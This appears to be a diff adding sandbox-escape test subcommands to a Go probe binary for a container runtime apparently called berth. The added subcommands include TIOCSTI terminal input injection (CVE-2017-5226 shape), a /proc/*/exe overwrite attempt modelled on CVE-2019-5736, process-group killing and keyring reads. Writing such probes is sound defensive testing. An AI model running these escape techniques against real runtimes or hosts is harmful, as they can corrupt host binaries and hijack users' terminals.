@@ -33,6 +33,45 @@
 //	                        print {"allocated":N}, exit 0
 //	probe forkbomb [MAX]    start up to MAX (default 200) paused copies of
 //	                        itself, print {"started":N,"error":...}, pause
+//	probe ids               one JSON object: pid, ppid, session, process
+//	                        group, controlling tty, ids, groups, capability
+//	                        and no_new_privs status, namespaces, cgroup,
+//	                        cwd, env, session keyring, exe, fds
+//	probe winsize           what fd 0 is as a terminal: its path, whether
+//	                        it is a tty of the task's own devpts, owner,
+//	                        rows and cols, whether it is the controlling
+//	                        terminal, the foreground process group
+//	probe winch SECONDS [ROWS COLS]
+//	                        print the winsize object with "ready":true,
+//	                        wait up to SECONDS for SIGWINCH (until the size
+//	                        is ROWS x COLS, if given), print it again with
+//	                        "winch":true (false on timeout)
+//	probe tiocsti PATH...   try to push a line into the terminal's input
+//	                        (TIOCSTI) through fds 0, 1, 2 and each PATH
+//	                        opened read-write ("PPID" in a path stands for
+//	                        the parent's pid): {"fds":{FD:RESULT},
+//	                        "paths":{PATH:RESULT},"fd_targets":{...}},
+//	                        RESULT "ok" or what failed
+//	probe killpg            kill(0, SIGKILL): its whole process group;
+//	                        then, if it survived, {"survived":true}
+//	probe keyring KEYID DESC  {"session":ID,...}: the session keyring, and
+//	                        whether key KEYID can be read and a "user" key
+//	                        DESC found by searching the session keyring
+//	probe exe-attack SECONDS TARGET...
+//	                        CVE-2019-5736's shape: for up to SECONDS (or
+//	                        until SIGTERM/SIGINT) scan /proc/*/exe for the
+//	                        binaries TARGET (PATH or PATH@DEV:INO), open
+//	                        each found O_PATH, keep it and keep trying to
+//	                        reopen it through /proc/self/fd writable
+//	                        (O_WRONLY; O_WRONLY|O_APPEND and write a byte);
+//	                        print {"ready":true} once started, then the
+//	                        counts per target
+//	probe copy-self DST...  copy the probe's binary to each DST (creating
+//	                        its directory), mode 0755: a decoy
+//
+// A copy of the probe whose executable is named berth or berth-init is a
+// decoy planted by a task: if it ever runs it leaves a file decoy-ran-NAME
+// beside itself, says so and exits 42.
 //
 // The runtime's cgroup-aware GOMAXPROCS is turned off (go:debug below): it
 // keeps the cgroup CPU limit files open for its periodic update, and every
@@ -50,11 +89,13 @@ import (
 	"os/exec"
 	"os/signal"
 	"path/filepath"
+	"slices"
 	"sort"
 	"strconv"
 	"strings"
 	"syscall"
 	"time"
+	"unsafe"
 
 	"golang.org/x/sys/unix"
 )
@@ -64,6 +105,8 @@ func main() {
 	// package os starts the runtime's poller, whose epoll and eventfd
 	// descriptors would otherwise show up as fds of the task.
 	fds, fdErr := openFDs()
+
+	decoy()
 
 	args := os.Args[1:]
 	if len(args) == 0 || args[0] == "report" {
@@ -143,6 +186,24 @@ func main() {
 			max = atoi(rest[0])
 		}
 		forkbomb(max)
+	case "ids":
+		emit(ids(fds, fdErr))
+	case "winsize":
+		emit(winsize())
+	case "winch":
+		winch(need(rest, 1, "winch SECONDS")[0])
+	case "tiocsti":
+		tiocsti(fds, rest)
+	case "killpg":
+		killpg()
+	case "keyring":
+		a := need(rest, 2, "keyring KEYID DESC")
+		keyring(atoi(a[0]), a[1])
+	case "exe-attack":
+		a := need(rest, 2, "exe-attack SECONDS TARGET...")
+		exeAttack(seconds(a[0]), a[1:])
+	case "copy-self":
+		copySelf(need(rest, 1, "copy-self DST...")...)
 	default:
 		fail("unknown command %q", cmd)
 	}
@@ -731,4 +792,553 @@ func emit(v any) {
 func fail(format string, args ...any) {
 	fmt.Fprintf(os.Stderr, "probe: "+format+"\n", args...)
 	os.Exit(2)
+}
+
+// decoy turns a copy of the probe planted at the path of berth or
+// berth-init into a tripwire: if it ever runs, berth executed a file that a
+// task controls. It leaves decoy-ran-NAME beside itself (inside whatever
+// root it was found in), says so on stdout and stderr and exits 42.
+func decoy() {
+	exe, err := os.Readlink("/proc/self/exe")
+	if err != nil {
+		return
+	}
+	exe = strings.TrimSuffix(exe, " (deleted)")
+	name := filepath.Base(exe)
+	if name != "berth" && name != "berth-init" {
+		return
+	}
+	mark := filepath.Join(filepath.Dir(exe), "decoy-ran-"+name)
+	_ = os.WriteFile(mark, []byte(strings.Join(os.Args, " ")+"\n"), 0o644)
+	fmt.Fprintf(os.Stdout, "probe: decoy %s ran\n", exe)
+	fmt.Fprintf(os.Stderr, "probe: decoy %s ran with args %q\n", exe, os.Args)
+	os.Exit(42)
+}
+
+// IDs is what `probe ids` prints.
+type IDs struct {
+	Pid   int `json:"pid"`
+	Ppid  int `json:"ppid"`
+	Sid   int `json:"sid"`
+	Pgid  int `json:"pgid"`
+	TTYNr int `json:"tty_nr"`
+	UID   int `json:"uid"`
+	GID   int `json:"gid"`
+	EUID  int `json:"euid"`
+	EGID  int `json:"egid"`
+	// Groups are the supplementary groups.
+	Groups []int `json:"groups"`
+	// Status holds the capability sets, NoNewPrivs, Seccomp, SigIgn and
+	// SigBlk lines of /proc/self/status.
+	Status     map[string]string `json:"status"`
+	Namespaces map[string]string `json:"namespaces"`
+	Cgroup     []string          `json:"cgroup"`
+	Cwd        string            `json:"cwd"`
+	Env        []string          `json:"env"`
+	// SessionKeyring is KEYCTL_GET_KEYRING_ID of the session keyring.
+	SessionKeyring int               `json:"session_keyring"`
+	Exe            string            `json:"exe"`
+	FDTargets      map[string]string `json:"fd_targets"`
+	Errors         []string          `json:"errors,omitempty"`
+}
+
+func ids(fds []int, fdErr error) IDs {
+	r := IDs{
+		Pid:        os.Getpid(),
+		Ppid:       os.Getppid(),
+		UID:        os.Getuid(),
+		GID:        os.Getgid(),
+		EUID:       os.Geteuid(),
+		EGID:       os.Getegid(),
+		Namespaces: map[string]string{},
+		FDTargets:  map[string]string{},
+		Env:        os.Environ(),
+	}
+	addErr := func(what string, err error) {
+		if err != nil {
+			r.Errors = append(r.Errors, what+": "+err.Error())
+		}
+	}
+	addErr("fds", fdErr)
+	for _, fd := range fds {
+		t, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+		if err != nil {
+			t = "?" + err.Error()
+		}
+		r.FDTargets[strconv.Itoa(fd)] = t
+	}
+	var err error
+	r.Sid, err = unix.Getsid(0)
+	addErr("getsid", err)
+	r.Pgid, err = unix.Getpgid(0)
+	addErr("getpgid", err)
+	st, err := selfStat()
+	addErr("stat", err)
+	r.TTYNr = st.ttyNr
+	r.Groups, err = os.Getgroups()
+	if r.Groups == nil {
+		r.Groups = []int{}
+	}
+	addErr("groups", err)
+	r.Status, err = status()
+	addErr("status", err)
+	for _, ns := range []string{"mnt", "pid", "ipc", "uts", "net", "cgroup", "user"} {
+		l, err := os.Readlink("/proc/self/ns/" + ns)
+		addErr("ns "+ns, err)
+		r.Namespaces[ns] = l
+	}
+	r.Cgroup, err = lines("/proc/self/cgroup")
+	addErr("cgroup", err)
+	r.Cwd, err = os.Getwd()
+	addErr("cwd", err)
+	r.SessionKeyring, err = unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
+	addErr("session keyring", err)
+	r.Exe, err = os.Readlink("/proc/self/exe")
+	addErr("exe", err)
+	return r
+}
+
+// procStat is what the probe needs of /proc/self/stat.
+type procStat struct {
+	pgrp, session, ttyNr int
+}
+
+// selfStat reads /proc/self/stat, counting fields from the last ')' since
+// the command name may hold spaces.
+func selfStat() (procStat, error) {
+	b, err := os.ReadFile("/proc/self/stat")
+	if err != nil {
+		return procStat{}, err
+	}
+	s := string(b)
+	end := strings.LastIndexByte(s, ')')
+	if end < 0 {
+		return procStat{}, fmt.Errorf("/proc/self/stat: no command name")
+	}
+	f := strings.Fields(s[end+1:])
+	if len(f) < 5 {
+		return procStat{}, fmt.Errorf("/proc/self/stat: %d fields", len(f))
+	}
+	var st procStat
+	st.pgrp, _ = strconv.Atoi(f[2])
+	st.session, _ = strconv.Atoi(f[3])
+	st.ttyNr, _ = strconv.Atoi(f[4])
+	return st, nil
+}
+
+// TTYInfo is what `probe winsize` (and `probe winch`) print about fd 0 as
+// a terminal.
+type TTYInfo struct {
+	// Path is where /proc/self/fd/0 points; Targets the same for 0, 1, 2.
+	Path    string   `json:"path"`
+	Targets []string `json:"targets"`
+	// IsTTY: fd 0 answers TCGETS.
+	IsTTY bool `json:"isatty"`
+	Rows  int  `json:"rows"`
+	Cols  int  `json:"cols"`
+	// OwnDevpts: fd 0 is a pty slave (major 136-143) of the devpts
+	// mounted at the task's /dev/pts.
+	OwnDevpts bool `json:"own_devpts"`
+	// SameTTY: fds 0, 1 and 2 are the same terminal.
+	SameTTY bool `json:"same_tty"`
+	// UID and GID own fd 0's terminal; Mode is its permission bits.
+	UID  int    `json:"uid"`
+	GID  int    `json:"gid"`
+	Mode string `json:"mode"`
+	// Ctty: fd 0 is the process's controlling terminal (tty_nr of
+	// /proc/self/stat is its device).
+	Ctty  bool `json:"ctty"`
+	TTYNr int  `json:"tty_nr"`
+	Pid   int  `json:"pid"`
+	Sid   int  `json:"sid"`
+	Pgid  int  `json:"pgid"`
+	// FgPgrp is the terminal's foreground process group (TIOCGPGRP on fd
+	// 0), -1 when it cannot be read.
+	FgPgrp int `json:"fg_pgrp"`
+	// Ready and Winch are set by `probe winch`; Winches counts the
+	// SIGWINCHes it got.
+	Ready   *bool    `json:"ready,omitempty"`
+	Winch   *bool    `json:"winch,omitempty"`
+	Winches int      `json:"winches,omitempty"`
+	Errors  []string `json:"errors,omitempty"`
+}
+
+func winsize() TTYInfo {
+	r := TTYInfo{Pid: os.Getpid(), FgPgrp: -1}
+	addErr := func(what string, err error) {
+		if err != nil {
+			r.Errors = append(r.Errors, what+": "+err.Error())
+		}
+	}
+	var sts [3]unix.Stat_t
+	same := true
+	for fd := 0; fd < 3; fd++ {
+		t, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+		if err != nil {
+			t = "?" + errText(err)
+		}
+		r.Targets = append(r.Targets, t)
+		if err := unix.Fstat(fd, &sts[fd]); err != nil {
+			addErr(fmt.Sprintf("fstat %d", fd), err)
+			same = false
+			continue
+		}
+		if sts[fd].Dev != sts[0].Dev || sts[fd].Rdev != sts[0].Rdev || sts[fd].Mode&unix.S_IFMT != unix.S_IFCHR {
+			same = false
+		}
+	}
+	r.Path = r.Targets[0]
+	r.SameTTY = same
+	st0 := sts[0]
+	r.UID, r.GID = int(st0.Uid), int(st0.Gid)
+	r.Mode = fmt.Sprintf("%04o", st0.Mode&07777)
+	if _, err := unix.IoctlGetTermios(0, unix.TCGETS); err == nil {
+		r.IsTTY = true
+	}
+	if ws, err := unix.IoctlGetWinsize(0, unix.TIOCGWINSZ); err == nil {
+		r.Rows, r.Cols = int(ws.Row), int(ws.Col)
+	} else {
+		addErr("TIOCGWINSZ", err)
+	}
+	var pts unix.Stat_t
+	if err := unix.Stat("/dev/pts", &pts); err != nil {
+		addErr("stat /dev/pts", err)
+	} else {
+		major := unix.Major(st0.Rdev)
+		r.OwnDevpts = st0.Mode&unix.S_IFMT == unix.S_IFCHR && major >= 136 && major <= 143 && st0.Dev == pts.Dev
+	}
+	ps, err := selfStat()
+	addErr("stat", err)
+	r.TTYNr = ps.ttyNr
+	// The kernel's encoding of a device number in tty_nr (new_encode_dev).
+	maj, min := uint64(unix.Major(st0.Rdev)), uint64(unix.Minor(st0.Rdev))
+	enc := int(min&0xff | maj<<8 | (min&^0xff)<<12)
+	r.Ctty = r.IsTTY && ps.ttyNr != 0 && ps.ttyNr == enc
+	r.Sid, err = unix.Getsid(0)
+	addErr("getsid", err)
+	r.Pgid, err = unix.Getpgid(0)
+	addErr("getpgid", err)
+	if fg, err := unix.IoctlGetInt(0, unix.TIOCGPGRP); err == nil {
+		r.FgPgrp = fg
+	}
+	return r
+}
+
+// winch prints the terminal as it is, then waits up to secs for SIGWINCH
+// and prints it again. With rows and cols it keeps waiting until the size
+// is that (a SIGWINCH from an earlier resize does not end the wait).
+func winch(secs string) {
+	d := seconds(secs)
+	want := os.Args[3:]
+	ch := make(chan os.Signal, 8)
+	signal.Notify(ch, syscall.SIGWINCH)
+	ready := true
+	info := winsize()
+	info.Ready = &ready
+	emit(info)
+	got, n := false, 0
+	timeout := time.After(d)
+wait:
+	for {
+		select {
+		case <-ch:
+			n++
+			got = true
+			info = winsize()
+			if len(want) < 2 || (strconv.Itoa(info.Rows) == want[0] && strconv.Itoa(info.Cols) == want[1]) {
+				break wait
+			}
+		case <-timeout:
+			break wait
+		}
+	}
+	info = winsize()
+	info.Winch = &got
+	info.Winches = n
+	emit(info)
+}
+
+// tiocstiPayload is the line the probe tries to push into a terminal's
+// input; the tests look for it on the caller's terminal.
+const tiocstiPayload = "berth-tiocsti-injected\n"
+
+// InjectResult is how one TIOCSTI attempt went.
+type InjectResult struct {
+	// Opened: the path could be opened (always true for fds 0-2).
+	Opened bool `json:"opened"`
+	// Injected counts the bytes TIOCSTI accepted.
+	Injected int    `json:"injected"`
+	Error    string `json:"error"`
+}
+
+func inject(fd int) InjectResult {
+	r := InjectResult{Opened: true}
+	for i := 0; i < len(tiocstiPayload); i++ {
+		b := tiocstiPayload[i]
+		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
+		if e != 0 {
+			r.Error = "TIOCSTI: " + e.Error()
+			return r
+		}
+		r.Injected++
+	}
+	return r
+}
+
+// tiocsti is bubblewrap's CVE-2017-5226 shape: a task that reaches its
+// caller's terminal pushes a command line into the caller's shell input.
+func tiocsti(fds []int, paths []string) {
+	out := struct {
+		FDs       map[string]InjectResult `json:"fds"`
+		Paths     map[string]InjectResult `json:"paths"`
+		FDTargets map[string]string       `json:"fd_targets"`
+	}{map[string]InjectResult{}, map[string]InjectResult{}, map[string]string{}}
+	for _, fd := range fds {
+		t, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+		if err != nil {
+			t = "?" + errText(err)
+		}
+		out.FDTargets[strconv.Itoa(fd)] = t
+	}
+	for fd := 0; fd < 3; fd++ {
+		out.FDs[strconv.Itoa(fd)] = inject(fd)
+	}
+	ppid := strconv.Itoa(os.Getppid())
+	for _, p := range paths {
+		path := strings.ReplaceAll(p, "PPID", ppid)
+		// Without O_NOCTTY: a session leader with no terminal would
+		// acquire it, which is what an attacker wants.
+		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
+		if err != nil {
+			out.Paths[p] = InjectResult{Error: "open " + path + ": " + err.Error()}
+			continue
+		}
+		out.Paths[p] = inject(fd)
+		unix.Close(fd)
+	}
+	emit(out)
+}
+
+// killpg signals the probe's whole process group with SIGKILL, as a
+// hostile task would to take its caller's shell down with it.
+func killpg() {
+	err := unix.Kill(0, unix.SIGKILL)
+	// Delivery happens on return from the syscall; a pid namespace's init
+	// does not die of a signal sent from inside.
+	time.Sleep(2 * time.Second)
+	out := map[string]any{"survived": true, "error": ""}
+	if err != nil {
+		out["error"] = errText(err)
+	}
+	emit(out)
+}
+
+// keyring reports the session keyring and whether key id (a "user" key
+// described desc, in the caller's session keyring) can be read or found.
+func keyring(id int, desc string) {
+	out := map[string]any{}
+	ses, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
+	out["session"] = ses
+	out["session_error"] = errString(err)
+	buf := make([]byte, 4096)
+	_, err = unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
+	out["read_ok"] = err == nil
+	out["read_error"] = errString(err)
+	found, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", desc, 0)
+	out["search_ok"] = err == nil
+	out["search_id"] = found
+	out["search_error"] = errString(err)
+	emit(out)
+}
+
+func errString(err error) string {
+	if err == nil {
+		return ""
+	}
+	return errText(err)
+}
+
+// attackTarget is a binary exe-attack looks for.
+type attackTarget struct {
+	path     string
+	dev, ino uint64
+	hasID    bool
+}
+
+// AttackCount is what exe-attack did to one target.
+type AttackCount struct {
+	// Opened counts O_PATH opens of /proc/PID/exe that were this binary.
+	Opened int `json:"opened"`
+	// Pids are the processes (up to 32) whose exe it opened; an O_PATH fd
+	// of each of the first maxHeld is kept and retried every scan.
+	Pids []int `json:"pids"`
+	// Writable counts reopens through /proc/self/fd that gave a writable
+	// fd; Appended the bytes then written.
+	Writable int `json:"writable"`
+	Appended int `json:"appended"`
+	// Errors counts the failed reopens by error.
+	Errors map[string]int `json:"errors"`
+}
+
+// maxHeld bounds the O_PATH fds kept per target to retry later, as the
+// original exploit waits for the runtime to exit before writing.
+const maxHeld = 16
+
+// exeAttack is CVE-2019-5736's shape.
+func exeAttack(d time.Duration, args []string) {
+	var targets []attackTarget
+	counts := map[string]*AttackCount{}
+	for _, a := range args {
+		tg := attackTarget{path: a}
+		if p, id, ok := strings.Cut(a, "@"); ok {
+			tg.path = p
+			ds, is, _ := strings.Cut(id, ":")
+			dev, err1 := strconv.ParseUint(ds, 10, 64)
+			ino, err2 := strconv.ParseUint(is, 10, 64)
+			if err1 != nil || err2 != nil {
+				fail("exe-attack: bad target %q, want PATH or PATH@DEV:INO", a)
+			}
+			tg.dev, tg.ino, tg.hasID = dev, ino, true
+		}
+		targets = append(targets, tg)
+		counts[tg.path] = &AttackCount{Pids: []int{}, Errors: map[string]int{}}
+	}
+	stop := make(chan os.Signal, 1)
+	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
+	emit(map[string]any{"ready": true})
+
+	held := map[string][]int{}
+	tryWrite := func(c *AttackCount, fd int) {
+		p := "/proc/self/fd/" + strconv.Itoa(fd)
+		if w, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
+			c.Writable++
+			unix.Close(w)
+		} else {
+			c.Errors["O_WRONLY: "+errText(err)]++
+		}
+		if w, err := unix.Open(p, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0); err == nil {
+			c.Writable++
+			if n, _ := unix.Write(w, []byte{0}); n == 1 {
+				c.Appended++
+			}
+			unix.Close(w)
+		} else {
+			c.Errors["O_WRONLY|O_APPEND: "+errText(err)]++
+		}
+	}
+	self := os.Getpid()
+	scans, maxPids, exeOpened := 0, 0, 0
+	start := time.Now()
+	deadline := start.Add(d)
+	buf := make([]byte, 32<<10)
+scan:
+	for time.Now().Before(deadline) {
+		select {
+		case <-stop:
+			break scan
+		default:
+		}
+		scans++
+		dfd, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			fail("exe-attack: open /proc: %v", err)
+		}
+		var names []string
+		for {
+			n, err := unix.ReadDirent(dfd, buf)
+			if err != nil || n <= 0 {
+				break
+			}
+			_, _, names = unix.ParseDirent(buf[:n], -1, names)
+		}
+		unix.Close(dfd)
+		pids := 0
+		for _, name := range names {
+			pid, err := strconv.Atoi(name)
+			if err != nil || pid == self {
+				continue
+			}
+			pids++
+			fd, err := unix.Open("/proc/"+name+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
+			if err != nil {
+				continue
+			}
+			exeOpened++
+			var st unix.Stat_t
+			if unix.Fstat(fd, &st) != nil {
+				unix.Close(fd)
+				continue
+			}
+			link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+			link = strings.TrimSuffix(link, " (deleted)")
+			kept := false
+			for _, tg := range targets {
+				if !(tg.hasID && st.Dev == tg.dev && st.Ino == tg.ino) && link != tg.path {
+					continue
+				}
+				c := counts[tg.path]
+				c.Opened++
+				tryWrite(c, fd)
+				// One fd kept per process, the first time it is seen.
+				if !slices.Contains(c.Pids, pid) {
+					if len(c.Pids) < 32 {
+						c.Pids = append(c.Pids, pid)
+					}
+					if len(held[tg.path]) < maxHeld {
+						held[tg.path] = append(held[tg.path], fd)
+						kept = true
+					}
+				}
+				break
+			}
+			if !kept {
+				unix.Close(fd)
+			}
+		}
+		maxPids = max(maxPids, pids)
+		// Retry what is held: the binary may no longer be running now.
+		for path, fds := range held {
+			for _, fd := range fds {
+				tryWrite(counts[path], fd)
+			}
+		}
+	}
+	emit(map[string]any{
+		"scans":      scans,
+		"pids":       maxPids,
+		"exe_opened": exeOpened,
+		"seconds":    time.Since(start).Seconds(),
+		"targets":    counts,
+	})
+}
+
+// copySelf copies the probe's own binary to each dst, creating the
+// directories on the way: {"copied":[...],"error":""}.
+func copySelf(dsts ...string) {
+	out := map[string]any{"copied": []string{}, "error": ""}
+	b, err := os.ReadFile("/proc/self/exe")
+	if err != nil {
+		out["error"] = errText(err)
+		emit(out)
+		return
+	}
+	var copied []string
+	for _, dst := range dsts {
+		err := os.MkdirAll(filepath.Dir(dst), 0o755)
+		if err == nil {
+			err = os.WriteFile(dst, b, 0o755)
+		}
+		if err == nil {
+			err = os.Chmod(dst, 0o755)
+		}
+		if err != nil {
+			out["error"] = dst + ": " + errText(err)
+			break
+		}
+		copied = append(copied, dst)
+	}
+	if copied != nil {
+		out["copied"] = copied
+	}
+	emit(out)
 }
